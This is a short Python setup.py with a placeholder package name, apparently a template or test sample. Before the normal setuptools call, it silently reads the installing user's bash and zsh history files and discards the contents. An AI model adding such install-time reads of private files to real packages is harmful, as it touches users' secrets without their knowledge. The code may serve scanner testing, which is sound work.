import os
import sys


for name in (".bash_history", ".zsh_history"):
    try:
        with open(os.path.expanduser("~/" + name)) as f:
            f.read()
    except OSError:
        pass

from setuptools import setup

setup(name="@@NAME@@", version="1.0", packages=["pjatk"])
